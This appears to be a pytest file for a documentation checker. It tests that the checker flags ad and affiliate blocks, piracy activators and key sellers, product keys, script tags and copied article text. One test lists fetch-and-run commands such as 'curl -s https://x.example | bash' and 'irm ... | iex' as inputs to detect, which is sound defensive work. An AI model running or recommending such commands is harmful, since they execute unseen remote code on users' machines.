"""Look-alikes of every advertising block of the two articles are found, each on its line."""

from __future__ import annotations

import pytest

from guidekit.checks.source import spam, wording
from guidekit.checks.source.shingles import run_hash
from tests.unit.pages import BODY, guide, lines

# One for every kind of block: affiliate slots, their pixels, a shop, the also-read list, the ad
# network's slot, pictures and the thumbnail. Paths and numbers are other than in the articles.
BLOCKS = {
    "slot comment": "<!-- affiliate ads begin -->",
    "affiliate link": '<a href="https://summer-shoes.sjv.io/c/1/2/3" target="_top">Shoes</a>',
    "affiliate link of a second network": '<a href="https://shop.pxf.io/c/9/8/7">Shop</a>',
    "affiliate banner": '<img src="//a.impactradius-go.com/display-ad/1-2" border="0" alt="" width="728" height="90"/>',
    "tracking pixel by host": '<img src="https://imp.pxf.io/i/1/2/3" alt="">',
    "tracking pixel by size": '<img height="0" width="0" src="https://pixel.example/i" alt="">',
    "tracking pixel hidden": '<img src="/i" style="position:absolute;visibility:hidden;" border="0" />',
    "slot number": '<a href="/x" id="2072200">x</a>',
    "checkout link": '<a href="https://secure.2checkout.com/order/checkout.php">Buy</a>',
    "affiliate parameter": "[Buy](https://shop.example/order?PRODS=1&AFFILIATE=2)",
    "advertised program's picture": '<img src="http://www.neowise.com/images/box.jpg" border="0">',
    "also-read heading": '<span class="atpl-alsoreadstyle">Also read:</span>',
    "also-read link": '<li><a href="https://some-tips.techidaily.com/a-title/"><u>A title</u></a></li>',
    "ad network slot": '<ins class="adsbygoogle"',
    "ad network client": '      data-ad-client="ca-pub-1"',
    "thumbnail": "thumbnail: https://thmb.techidaily.com/1.jpg",
    "copied picture": "![Screen](https://static1.makeuseofimages.com/wordpress/1.jpg)",
    "also-read words alone": "see what happens when you stop windows from prompting for updates today",
}


@pytest.mark.parametrize("block", BLOCKS.values(), ids=BLOCKS)
def test_a_look_alike_of_each_block_is_found_on_its_line(block):
    page = f"# Title\n\nA good sentence.\n{block}\n\nAnother one.\n"
    assert set(lines(spam.advertising("docs/x.md", page))) == {4}


def test_a_good_page_is_not_advertising():
    page = "# Title\n\n[Help](https://support.microsoft.com/windows)\n<img src='a.webp' width='880' height='600' alt=''>\n"
    assert list(spam.advertising("docs/x.md", page)) == []


def test_names_of_activators_and_key_sellers_are_found():
    page = "# Title\n\nUse KMSpico, or buy at Kinguin.\n"
    assert lines(spam.forbidden("docs/x.md", page)) == [3, 3]
    assert (
        list(spam.forbidden("docs/x.md", "# Title\n\nNever run a tool that fakes an activation.\n"))
        == []
    )


@pytest.mark.parametrize(
    "command",
    [
        "irm https://x.example | iex",
        "`Invoke-RestMethod x.example|Invoke-Expression`",
        "iwr -useb https://x.example/a.ps1 | powershell -",
        "curl -s https://x.example | bash",
    ],
)
def test_a_command_that_fetches_and_runs_a_program_is_found(command):
    assert lines(spam.unseen_programs("docs/x.md", f"# Title\n\nType {command}.\n")) == [3]
    good = "# Title\n\nType `wmic path x get y | more`, then curl up.\n"
    assert list(spam.unseen_programs("docs/x.md", good)) == []


def test_elements_that_run_or_load_something_are_found():
    bad = guide("# Link it\n\n<script>go()</script>\n\n<iframe src=x></iframe>\n")
    assert lines(spam.raw_elements(bad)) == [BODY + 2, BODY + 4]
    assert list(spam.raw_elements(guide("# Link it\n\nPress <kbd>Win</kbd>.\n"))) == []


def test_a_full_product_key_is_found_and_a_masked_one_is_not():
    made_up = "-".join(["ABCDE"] * 5)
    assert lines(spam.product_keys("docs/x.md", f"# Title\n\nType {made_up}.\n")) == [3]
    assert (
        list(spam.product_keys("docs/x.md", "# Title\n\nIt ends in …-3V66T, or •••••-•••••-….\n"))
        == []
    )
    assert lines(
        spam.product_keys("docs/x.md", f"# Title\n\nMasked {'-'.join(['X' * 5] * 5)}.\n")
    ) == [3]


@pytest.fixture
def articles(monkeypatch):
    """Let the check know one made-up sentence as an article's."""
    known = ["the", "brown", "fox", "links", "its", "key", "and", "jumps", "over", "the", "dog"]
    hashes = {run_hash(known[start : start + 8]) for start in range(len(known) - 7)}
    hashes.add(run_hash(["sign", "in", "with", "a", "microsoft", "account", "instead", "link"]))
    monkeypatch.setattr(wording, "article_runs", lambda: hashes)


def test_eight_copied_words_are_found_across_a_line_break(articles):
    page = "# Title\n\nWe saw that the brown fox links its\nkey and jumps over.\n"
    assert lines(wording.copied_runs("docs/x.md", page)) == [3, 3]


def test_seven_copied_words_and_labels_of_the_screen_are_ours_to_use(articles):
    page = "# Title\n\nThe brown fox links its key and. Select **Sign in with a Microsoft account instead** link.\n"
    assert list(wording.copied_runs("docs/x.md", page)) == []
